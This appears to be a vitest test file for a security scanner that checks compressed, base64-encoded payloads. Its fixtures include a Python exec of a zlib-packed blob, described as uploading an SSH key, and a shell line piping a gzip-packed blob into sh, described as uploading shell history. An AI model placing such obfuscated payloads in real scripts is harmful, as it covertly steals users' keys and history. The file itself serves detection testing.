import { describe, it } from 'vitest';
import { type Case, check } from './cases.js';

// Payloads compressed before encoding (zlib or gzip under base64) are inflated and analysed like plain ones:
// what they do is reported at the line holding them.

const cases: Case[] = [
  {
    name: 'python exec of zlib-compressed base64 that uploads an SSH key',
    path: 'scripts/warmup.py',
    text: 'import base64, zlib\nexec(zlib.decompress(base64.b64decode("eJxVzTEKAyEQheF+TyFWKxglAYsE9izBXQdWUMfMjJAqZ4+kS/nB/3i5diRRyFYNKiXvjuA1gGX5p5vEDm3Vp0jnh/cVhPLBDt6x9gKXA0uBQ5BcA/FDW5WixO03QnY9yjnbHlsaDLTqj3fMp8/pCekWwvWujVWadm3mZ0zrlOQKOGQLZvkCeFE6rQ==")))\n',
    expect: [
      ['SC3', 2],
      ['E1', 2],
      ['PE3', 2],
    ],
  },
  {
    name: 'bash pipes gzip-compressed base64 into a shell that uploads shell history',
    path: 'scripts/setup.sh',
    text: '#!/bin/sh\necho "H4sIAAAAAAACA0suLcpR0C1W0NXNTazQLcnMTVUwVdB1U1BKs3VQ8fD3ddXXS0oszojPyCwuyS+qVFLIKCkpKLbS108pyi/QS61IzC3ISdVNy8xJLdbLSy3RLy3gAgAW9NIIUwAAAA==" | base64 -d | gunzip | sh\n',
    expect: [
      ['SC3', 2],
      ['E1', 2],
    ],
  },
  {
    name: 'no finding: a gzip-compressed base64 data blob that is only stored',
    path: 'scripts/fixture.py',
    text: 'import base64, gzip\nSAMPLE = "H4sIAAAAAAACA8tIzcnJBwCGphA2BQAAAA=="\nprint(gzip.decompress(base64.b64decode(SAMPLE)).decode())\n',
    absent: ['SC3', 'E1'],
  },
];

describe('compressed encoded payloads', () => {
  it.each(cases)('$name', (c) => check(c));
});
